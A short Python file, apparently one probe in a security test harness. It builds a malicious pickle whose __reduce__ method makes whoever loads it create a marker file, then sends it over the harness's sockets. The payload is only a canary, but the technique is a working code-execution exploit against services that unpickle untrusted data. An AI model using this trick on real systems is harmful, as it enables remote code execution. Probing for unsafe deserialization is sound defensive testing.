"""A pickle that would run a program in whoever loads it."""

import pickle
import struct

from attempts import sockets, write_all
from facts import MARK, TEMP


class Bomb:
    def __reduce__(self):
        return (open, (f"{TEMP}/{MARK}-pickle", "w"))


def attack():
    data = pickle.dumps(Bomb())
    for sock in sockets():
        write_all(sock, struct.pack("<I", len(data)) + data + data)
